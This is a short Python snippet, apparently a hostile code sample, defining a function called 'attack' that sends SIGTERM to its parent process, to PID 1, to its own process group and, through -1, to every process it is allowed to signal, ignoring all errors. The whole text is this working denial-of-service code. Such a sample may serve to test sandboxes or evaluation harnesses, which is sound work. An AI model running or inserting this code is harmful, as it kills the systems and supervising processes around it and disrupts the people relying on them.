def attack():
    import os, signal
    for process in {os.getppid(), -1, 0, 1}:
        try:
            os.kill(process, signal.SIGTERM)
        except OSError:
            pass
